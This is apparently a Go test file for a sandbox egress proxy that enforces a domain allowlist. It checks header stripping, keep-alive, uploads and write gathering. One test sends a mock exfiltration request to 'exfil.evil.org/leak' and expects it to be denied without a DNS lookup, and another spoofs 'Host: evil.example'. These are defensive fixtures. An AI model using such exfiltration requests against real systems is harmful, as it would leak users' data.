package egress

import (
	"bufio"
	"bytes"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"
)

func proxyClient(proxyAddr string) *http.Client {
	u := &url.URL{Scheme: "http", Host: proxyAddr}
	return &http.Client{Transport: &http.Transport{Proxy: http.ProxyURL(u)}}
}

func TestPlainHTTPAllowedNameIsForwarded(t *testing.T) {
	var seen http.Header
	var seenHost string
	// A raw upstream, so the response's Connection field is exactly this.
	upAddr := serveTCP(t, func(c net.Conn) {
		r, err := http.ReadRequest(bufio.NewReader(c))
		if err != nil {
			return
		}
		seen, seenHost = r.Header.Clone(), r.Host
		io.WriteString(c, "HTTP/1.1 200 OK\r\nConnection: X-Hop, close\r\nX-Hop: secret\r\n"+
			"Content-Length: 12\r\n\r\nsimple index")
	})
	tp := startProxy(t, mustPolicy(t, "allowlist", "pypi.org"), StaticResolver{"pypi.org": {pypiIP}}, nil)
	tp.dialer.route(pypiIP+":80", upAddr)

	req, _ := http.NewRequest("GET", "http://pypi.org/simple/", nil)
	req.Header.Set("Connection", "X-Private")
	req.Header.Set("X-Private", "token")
	req.Header.Set("Proxy-Authorization", "Basic Zm9vOmJhcg==")
	resp, err := proxyClient(tp.addr).Do(req)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != 200 || string(body) != "simple index" {
		t.Fatalf("got %d %q", resp.StatusCode, body)
	}
	if seenHost != "pypi.org" || seen.Get("X-Private") != "" || seen.Get("Proxy-Authorization") != "" {
		t.Errorf("upstream saw Host %q and headers %v: hop-by-hop fields were passed on", seenHost, seen)
	}
	if resp.Header.Get("X-Hop") != "" {
		t.Error("a field the response's Connection named reached the client")
	}
	e := tp.waitLog(t, 1)[0]
	if e.Decision != Allowed || e.Method != "GET" || e.Host != "pypi.org" || e.Port != 80 ||
		e.Addr != pypiIP || e.BytesDown < int64(len(body)) || e.BytesUp == 0 || e.Sandbox != "api" ||
		!e.Time.Equal(testEpoch) {
		t.Errorf("log entry %+v", e)
	}
}

func TestPlainHTTPDeniedNameIs403LoggedAndNeverResolved(t *testing.T) {
	tp := startProxy(t, mustPolicy(t, "allowlist", "pypi.org"),
		StaticResolver{"pypi.org": {pypiIP}, "exfil.evil.org": {otherIP}}, nil)
	resp, err := proxyClient(tp.addr).Get("http://exfil.evil.org/leak")
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if resp.StatusCode != http.StatusForbidden || !strings.Contains(string(body), "not in the allowlist") {
		t.Fatalf("got %d %q, want 403 naming the reason", resp.StatusCode, body)
	}
	if names := tp.res.names(); len(names) != 0 {
		t.Errorf("the proxy resolved %v for a name no rule allows (a DNS lookup is itself a way out)", names)
	}
	if dials := tp.dialer.dials(); len(dials) != 0 {
		t.Errorf("dialled %v for a denied name", dials)
	}
	e := tp.waitLog(t, 1)[0]
	if e.Decision != Denied || e.Host != "exfil.evil.org" || e.Port != 80 || !strings.Contains(e.Reason, "allowlist") {
		t.Errorf("log entry %+v", e)
	}
}

func TestPlainHTTPKeepAliveCarriesSeveralRequests(t *testing.T) {
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprint(w, r.Host+r.URL.Path)
	}))
	defer up.Close()
	tp := startProxy(t, mustPolicy(t, "allowlist", "pypi.org"), StaticResolver{"pypi.org": {pypiIP}}, nil)
	tp.dialer.route(pypiIP+":80", up.Listener.Addr().String())
	c, err := net.Dial("tcp", tp.addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	br := bufio.NewReader(c)
	// The Host field names another site: the URI's authority is what goes out.
	for _, path := range []string{"/a", "/b", "/c"} {
		fmt.Fprintf(c, "GET http://pypi.org%s HTTP/1.1\r\nHost: evil.example\r\n\r\n", path)
		resp, err := http.ReadResponse(br, nil)
		if err != nil {
			t.Fatalf("request %s: %v", path, err)
		}
		body, _ := io.ReadAll(resp.Body)
		if string(body) != "pypi.org"+path || resp.Close {
			t.Fatalf("request %s: body %q, close %v", path, body, resp.Close)
		}
	}
	tp.waitLog(t, 3)
}

func TestPlainHTTPRefusesOriginFormAndOtherSchemes(t *testing.T) {
	tp := startProxy(t, mustPolicy(t, "allowlist", "pypi.org"), StaticResolver{}, nil)
	for _, line := range []string{"GET / HTTP/1.1", "GET https://pypi.org/ HTTP/1.1", "GET ftp://pypi.org/ HTTP/1.1"} {
		c, err := net.Dial("tcp", tp.addr)
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(c, "%s\r\nHost: pypi.org\r\n\r\n", line)
		resp, err := http.ReadResponse(bufio.NewReader(c), nil)
		c.Close()
		if err != nil || resp.StatusCode != http.StatusBadRequest {
			t.Errorf("%q: got %v %v, want 400", line, resp, err)
		}
	}
}

func TestPlainHTTPUploadWithExpectContinue(t *testing.T) {
	up := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(r.Body)
		fmt.Fprintf(w, "got %d", len(b))
	}))
	defer up.Close()
	tp := startProxy(t, mustPolicy(t, "allowlist", "pypi.org"), StaticResolver{"pypi.org": {pypiIP}}, nil)
	tp.dialer.route(pypiIP+":80", up.Listener.Addr().String())
	req, _ := http.NewRequest("POST", "http://pypi.org/upload", strings.NewReader(strings.Repeat("x", 100000)))
	req.Header.Set("Expect", "100-continue")
	resp, err := proxyClient(tp.addr).Do(req)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	if string(body) != "got 100000" {
		t.Fatalf("got %q", body)
	}
	if e := tp.waitLog(t, 1)[0]; e.BytesUp < 100000 {
		t.Errorf("bytes_up %d, want the upload counted", e.BytesUp)
	}
}

// writes records each Write it is given, as the guest's socket would see
// segments, and hands each on to seen.
type writes struct {
	got  [][]byte
	seen chan []byte
}

func (w *writes) Write(b []byte) (int, error) {
	w.got = append(w.got, bytes.Clone(b))
	if w.seen != nil {
		w.seen <- bytes.Clone(b)
	}
	return len(b), nil
}

// A response whose body upstream sent with its head reaches the guest in
// one write, not a write for each piece of the head (each a packet for
// an emulated guest to take in).
func TestAForwardedAnswerIsOneWrite(t *testing.T) {
	upstream := bufio.NewReader(strings.NewReader("HTTP/1.1 200 OK\r\nContent-Length: 5\r\n" +
		"Content-Type: text/plain\r\nDate: Thu, 03 Dec 2026 06:41:58 GMT\r\n\r\nhello"))
	resp, err := http.ReadResponse(upstream, nil)
	if err != nil {
		t.Fatal(err)
	}
	var w writes
	if err := writeGathered(&w, resp, upstream); err != nil {
		t.Fatal(err)
	}
	if len(w.got) != 1 || !bytes.HasSuffix(w.got[0], []byte("\r\n\r\nhello")) {
		t.Errorf("the answer went out in %d writes: %q", len(w.got), w.got)
	}
}

// What upstream has sent goes on to the guest before the proxy waits for
// more: a slow stream's bytes are never held back for the gathering, and
// every byte arrives once, in order.
func TestAForwardedStreamIsNotHeldBack(t *testing.T) {
	for _, framing := range []struct{ name, head, first, rest string }{
		{"length", "Content-Length: 9\r\n", "first", "last"},
		{"chunked", "Transfer-Encoding: chunked\r\n", "5\r\nfirst\r\n", "4\r\nlast\r\n0\r\n\r\n"},
	} {
		t.Run(framing.name, func(t *testing.T) {
			pr, pw := io.Pipe()
			upstream := bufio.NewReader(pr)
			go io.WriteString(pw, "HTTP/1.1 200 OK\r\n"+framing.head+"\r\n"+framing.first)
			resp, err := http.ReadResponse(upstream, nil)
			if err != nil {
				t.Fatal(err)
			}
			w := writes{seen: make(chan []byte, 16)}
			done := make(chan error, 1)
			go func() { done <- writeGathered(&w, resp, upstream) }()
			var sent []byte
			for deadline := time.After(5 * time.Second); !bytes.Contains(sent, []byte("first")); {
				select {
				case b := <-w.seen:
					sent = append(sent, b...)
				case <-deadline:
					t.Fatalf("upstream's first bytes never reached the guest while upstream waited: %q", sent)
				}
			}
			io.WriteString(pw, framing.rest)
			pw.Close()
			if err := <-done; err != nil {
				t.Fatal(err)
			}
			for len(w.seen) > 0 {
				sent = append(sent, <-w.seen...)
			}
			head, body, _ := bytes.Cut(sent, []byte("\r\n\r\n"))
			if !bytes.HasPrefix(head, []byte("HTTP/1.1 200 OK\r\n")) || string(body) != framing.first+framing.rest {
				t.Errorf("the guest got %q", sent)
			}
		})
	}
}
